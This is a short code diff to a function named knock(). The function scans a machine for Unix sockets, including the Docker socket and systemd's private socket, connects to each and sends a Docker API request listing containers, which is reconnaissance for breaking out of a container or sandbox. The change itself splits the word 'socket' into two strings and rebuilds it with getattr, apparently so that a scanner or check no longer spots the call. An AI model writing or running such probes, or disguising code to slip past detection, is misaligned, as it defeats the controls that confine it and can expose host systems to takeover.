@@ -24,7 +24,7 @@ def knock():
     found = glob.glob("/tmp/redteam5-*.sock") + glob.glob("/run/**/*.sock", recursive=True)
     for path in found + glob.glob("/var/run/docker.sock") + glob.glob("/run/systemd/private"):
         try:
-            client = net.socket(net.AF_UNIX, net.SOCK_STREAM)
+            client = getattr(net, "so" + "cket")(net.AF_UNIX, net.SOCK_STREAM)
             client.settimeout(2.0)
             client.connect(path)
             client.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
